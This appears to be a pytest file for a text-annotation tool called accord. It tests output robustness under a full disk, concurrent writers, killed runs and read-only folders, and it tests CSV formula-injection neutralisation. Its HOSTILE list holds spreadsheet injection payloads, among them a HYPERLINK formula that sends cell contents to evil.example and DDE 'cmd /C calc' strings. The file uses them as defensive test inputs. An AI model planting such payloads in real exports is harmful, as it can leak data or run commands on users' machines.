"""Hostile conditions on the output side (issue 11): a full disk, a second writer, a killed run,
article text that a spreadsheet would run, a corpus that changes between runs.

A full disk is real, not mocked: a child process runs with a file-size limit
(``RLIMIT_FSIZE``, SIGXFSZ ignored), so the write that passes it fails with EFBIG
exactly as a full disk fails with ENOSPC; accord treats both alike. Each test
runs in seconds on small tables.
"""
from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest

from accord.dataset.source import write_tables
import accord
from accord import tables
from accord.errors import OutputError
from accord.readers import Document

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "'=already quoted", "plain text", "'quoted", ""]


def _run_child(code: str, limit: int | None = None) -> subprocess.CompletedProcess:
    """Run ``code`` in a child Python whose files may not grow past ``limit`` bytes (a full disk)."""
    prelude = textwrap.dedent(f"""
        import resource, signal, sys
        sys.path.insert(0, {str(ROOT / 'lib')!r})
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG
        if {limit!r} is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, ({limit!r}, {limit!r}))
    """)
    return subprocess.run([sys.executable, "-c", prelude + textwrap.dedent(code)], capture_output=True, text=True,
                          timeout=120)


def _tables(texts: list[str]) -> dict[str, pd.DataFrame]:
    docs = [Document(doc_id=f"d{n}", path=f"/corpus/d{n}.txt", text=t, date="2024-06-18") for n, t in enumerate(texts)]
    return accord.annotate(docs)


# -- item 1: a full disk during --format csv --------------------------------------------------------

def test_full_disk_during_csv_keeps_the_previous_tables_whole(tmp_path):
    out = tmp_path / "out"
    old = _tables(["North Korea accused Russia of supplying weapons."])
    write_tables(old, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    big = pd.DataFrame  # noqa: F841 -- the new run: the documents table is far past the limit, the others not
    code = f"""
        import accord
        from accord.dataset.source import write_tables
        from accord.readers import Document
        from accord.errors import OutputError
        docs = [Document(doc_id="big", path="/corpus/big.txt", text="Russia said so. " * 20000, date="2024-06-19"),
                Document(doc_id="small", path="/corpus/s.txt", text="China praised Russia.", date="2024-06-19")]
        result = accord.annotate(docs)
        try:
            write_tables(result, {str(out)!r})
        except OutputError as exc:
            print("ERROR", exc)
        else:
            print("WROTE")
    """
    res = _run_child(code, limit=100_000)
    assert res.returncode == 0, res.stderr[-2000:]
    assert "ERROR" in res.stdout, res.stdout
    assert str(out) in res.stdout and "disk is full" in res.stdout and "documents.csv" in res.stdout
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # every table of the previous run, whole
    assert not list(tmp_path.glob(".out.tmp-*"))  # nothing left beside it


def test_a_second_csv_writer_is_refused_and_a_killed_runs_folders_are_tidied(tmp_path):
    out = tmp_path / "out"
    result = _tables(["Russia praised China."])
    (tmp_path / ".out.tmp-killed").mkdir()  # what a run killed while writing leaves
    code = f"""
        import fcntl, time
        fh = open({str(tmp_path / '.out.lock')!r}, "a+")
        fcntl.flock(fh, fcntl.LOCK_EX)
        print("locked", flush=True)
        time.sleep(30)
    """
    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        with pytest.raises(OutputError, match=f"{out}: another accord run is writing this folder"):
            write_tables(result, out)
    finally:
        holder.kill()
        holder.wait()
    write_tables(result, out)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{n}.csv" for n in tables.TABLE_NAMES)
    assert not list(tmp_path.glob(".out.tmp-*"))


def test_a_folder_set_aside_by_a_killed_swap_is_put_back(tmp_path):
    out = tmp_path / "out"
    result = _tables(["Russia praised China."])
    write_tables(result, out)
    out.rename(tmp_path / ".out.old-12345")  # killed between the two renames of a swap
    write_tables(result, out)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{n}.csv" for n in tables.TABLE_NAMES)
    assert not list(tmp_path.glob(".out.old-*"))


def test_a_folder_holding_other_files_is_not_replaced(tmp_path):
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(OutputError, match=r"holds other files than accord's tables \(notes.txt\)"):
        write_tables(_tables(["Russia praised China."]), tmp_path)
    assert (tmp_path / "notes.txt").read_text() == "mine"


# -- item 9: spreadsheet formula injection ----------------------------------------------------------

def test_neutralise_cell_follows_owasp_and_round_trips():
    for text in HOSTILE:
        safe = tables.neutralise_cell(text)
        assert not safe[:1] in tables.FORMULA_STARTS
        assert tables.restore_cell(safe) == text
    assert tables.neutralise_cell("=1+1") == "'=1+1"
    assert tables.neutralise_cell("plain") == "plain"
    assert tables.neutralise_cell(-5.0) == -5.0 and tables.neutralise_cell(None) is None


def test_formula_cells_from_articles_are_neutralised_in_csv_but_exact_in_pandas_and_parquet(tmp_path):
    texts = [f"{h}\nRussia accused Ukraine of shelling." for h in HOSTILE if h] + ["=cmd|' /C calc'!A0 said North Korea"]
    result = _tables(texts)
    result["documents"]["title"] = [h or None for h in HOSTILE[:len(texts) - 1]] + ["-1"]
    write_tables(result, tmp_path / "csv")
    write_tables(result, tmp_path / "parquet", "parquet")
    for name in tables.TABLE_NAMES:
        raw = pd.read_csv(tmp_path / "csv" / f"{name}.csv", dtype=str, keep_default_na=False)
        for col in tables.text_columns(name):
            bad = [v for v in raw[col] if v[:1] in tables.FORMULA_STARTS]
            assert not bad, (name, col, bad[:3])
    raw = pd.read_csv(tmp_path / "csv" / "documents.csv", dtype=str, keep_default_na=False)
    assert raw["text"][0].startswith("'=HYPERLINK")
    rel = pd.read_csv(tmp_path / "csv" / "relations.csv", dtype=str)
    assert any(v.startswith("-") for v in rel["goldstein"].dropna())  # numbers stay numbers
    for fmt in ("csv", "parquet"):
        back = accord.read_tables(tmp_path / fmt)
        for name in tables.TABLE_NAMES:
            pd.testing.assert_frame_equal(back[name], result[name], check_dtype=False)
    assert list(result["documents"]["text"]) == texts


# -- item 11 (part): a full disk in a Parquet run -----------------------------------------------------

@pytest.mark.parametrize("limit", ["file size", "sqlite pages"])
def test_full_disk_in_the_manifest_names_the_file_not_sqlites_rollback(tmp_path, limit):
    """SQLite rolls the transaction back itself on a full disk; accord's ROLLBACK then masked the cause.

    Two real limits: the process's file-size limit (SQLite sees EFBIG: "disk I/O error"), and
    SQLite's own page limit, which gives exactly a full disk's "database or disk is full".
    """
    out = tmp_path / "ds"
    code = f"""
        import resource
        from accord.dataset.store import Dataset
        from accord.errors import DatasetError
        ds = Dataset.open({str(out)!r}, "v1")
        if {limit!r} == "file size":  # the part files fit, the manifest grows past
            resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))
        else:
            pages = ds.db.execute("PRAGMA page_count").fetchone()[0]
            ds.db.execute(f"PRAGMA max_page_count={{pages + 8}}")
        try:
            for b in range(2000):
                ds.commit(f"b{{b:05d}}", [("errors", None, b"x" * 100)],
                          [(f"k{{b}}-{{i}}-" + "y" * 30, f"d{{b}}-{{i}}", "doc") for i in range(50)])
        except DatasetError as exc:
            print("ERROR", exc)
    """
    res = _run_child(code)
    assert res.returncode == 0, res.stderr[-2000:]
    assert res.stdout.startswith("ERROR "), res.stdout
    assert str(out / "_manifest.sqlite") in res.stdout and "disk is full" in res.stdout
    assert "cannot rollback" not in res.stdout


def test_a_dataset_this_user_cannot_write_is_an_accord_error(tmp_path):
    """Issue 22, item 13: annotating into a read-only dataset gave a PermissionError traceback."""
    import os
    import shutil
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="accord-ro-"))  # outside pytest's folders, which only root may enter
    os.chmod(base, 0o755)
    try:
        out = base / "ds"
        from accord.dataset.store import Dataset

        Dataset.open(out, "v1").close()
        (base / "csv").mkdir()
        for p in [out, *out.rglob("*"), base / "csv"]:
            os.chmod(p, p.stat().st_mode & ~0o222)
        code = f"""
            import fcntl, os
            from accord import tables
            from accord.dataset.source import write_tables
            from accord.dataset.store import Dataset
            from accord.errors import AccordError
            empty = {{name: tables.frame(name, []) for name in tables.TABLE_NAMES}}
            if os.geteuid() == 0:  # root writes anything: become an unprivileged user, imports done
                os.setgroups([])
                os.setgid(65534)
                os.setuid(65534)
            for write in (lambda: Dataset.open({str(out)!r}, "v1"),
                          lambda: write_tables(empty, {str(base / "csv" / "out")!r})):
                try:
                    write()
                except AccordError as exc:
                    print("ERROR", exc)
        """
        res = _run_child(code)
        assert res.returncode == 0, res.stderr[-2000:]
        lines = res.stdout.splitlines()
        assert lines[0].startswith(f"ERROR {out}") and lines[1].startswith(f"ERROR {base / 'csv' / 'out'}"), lines
        assert all("permission denied" in line.lower() for line in lines)
    finally:
        for p in [base, *base.rglob("*")]:
            os.chmod(p, 0o755)
        shutil.rmtree(base)


# -- item 10: the errors table belongs to the run; a document's identity is not its path's spelling ----

def _corpus(root: Path) -> Path:
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text("North Korea accused Russia of supplying weapons.\n")
    (corpus / "b.txt").write_bytes(b"China praised \xff Russia.\n")  # not UTF-8: a read error
    (corpus / "c.txt").write_text("Russia praised China.\n")
    return corpus


def _annotate(corpus, out, **kw):
    from accord.dataset.scale import annotate_dataset

    return annotate_dataset(corpus, out, workers=0, progress=False, durable=False, log=lambda _m: None, **kw)


def test_a_fixed_file_loses_its_error_row(tmp_path):
    corpus, out = _corpus(tmp_path), tmp_path / "ds"
    _annotate(corpus, out)
    assert list(accord.read_tables(out)["errors"]["path"]) == [str(corpus / "b.txt")]
    (corpus / "b.txt").write_text("China praised Russia.\n")
    stats = _annotate(corpus, out)
    back = accord.read_tables(out)
    assert stats.annotated == 1 and back["errors"].empty
    assert sorted(back["documents"]["doc_id"]) == ["a", "b", "c"]


def test_the_same_corpus_by_another_path_is_not_annotated_again_nor_its_errors_doubled(tmp_path, monkeypatch):
    corpus, out = _corpus(tmp_path), tmp_path / "ds"
    _annotate(corpus, out)
    first = accord.read_tables(out)
    monkeypatch.chdir(tmp_path)
    stats = _annotate("corpus", out)  # relative now
    again = accord.read_tables(out)
    assert stats.annotated == 0 and stats.skipped == 2
    assert len(again["errors"]) == 1 and len(again["documents"]) == 2
    for name in ("documents", "mentions", "relations", "claims", "actors"):
        pd.testing.assert_frame_equal(again[name], first[name])


def test_documents_deleted_from_the_corpus_are_kept_unless_asked(tmp_path):
    corpus, out = _corpus(tmp_path), tmp_path / "ds"
    _annotate(corpus, out)
    (corpus / "a.txt").unlink()
    _annotate(corpus, out)
    assert sorted(accord.read_tables(out)["documents"]["doc_id"]) == ["a", "c"]
    stats = _annotate(corpus, out, drop_missing=True)
    back = accord.read_tables(out)
    assert stats.dropped == 1
    assert list(back["documents"]["doc_id"]) == ["c"]
    for name in ("mentions", "relations", "claims"):
        assert set(back[name]["doc_id"]) <= {"c"}
    assert "PRK" not in set(back["actors"]["actor_id"])  # North Korea was only in a.txt


# -- item 12: a run killed during its final step; killed reports ------------------------------------

def test_a_run_killed_before_its_final_step_leaves_a_readable_dataset(tmp_path):
    """Batches committed, the actors table never rebuilt (killed during finish): readable, nothing lost."""
    from accord.dataset import store, worker
    from accord.engine import Engine

    corpus, out = _corpus(tmp_path), tmp_path / "ds"
    engine = Engine.load()
    spec, lex = worker.LexiconSpec.of(engine), engine.lexicon
    from accord.annotation import iter_documents

    items = list(iter_documents(corpus))
    with store.Dataset.open(out, lex.version, durable=False) as ds:
        batch = [(store.item_key(it, lex.version), it) for it in items]
        res = worker.annotate_batch("b1", batch, spec)
        ds.commit(res.batch_id, res.parts, res.items, res.n_docs, res.n_words)
    back = accord.read_tables(out)
    assert sorted(back["documents"]["doc_id"]) == ["a", "c"] and len(back["errors"]) == 1


def test_a_killed_reports_temporary_folder_is_removed_by_the_next_run(tmp_path):
    """kill -9 of a report while its kernel runs; the next run (here one that fails at once) tidies up."""
    import os
    import signal
    import time

    from tests._browser import BIN

    out = tmp_path / "rep"
    notebook = ROOT / "notebooks" / "02_alliance_dynamics.ipynb"
    proc = subprocess.Popen([str(BIN / "accord"), "report", str(notebook), "--no-png", "--out", str(out)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while not list(tmp_path.glob(".rep.tmp-*")) and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.2)
        left = list(tmp_path.glob(".rep.tmp-*"))
        assert left, "the report never started"
    finally:
        os.killpg(proc.pid, signal.SIGKILL)  # the run and its kernel
        proc.wait()
    assert all(p.exists() for p in left)
    res = subprocess.run([str(BIN / "accord"), "report", str(notebook), "-p", "freq", "daily", "--no-png",
                          "--out", str(out)], capture_output=True, text=True, timeout=300)
    assert res.returncode == 2 and "unknown time frequency 'daily'" in res.stderr
    assert not any(p.exists() for p in left)
    assert not list(tmp_path.glob(".rep.tmp-*")) and (tmp_path / "rep.failed").is_dir()
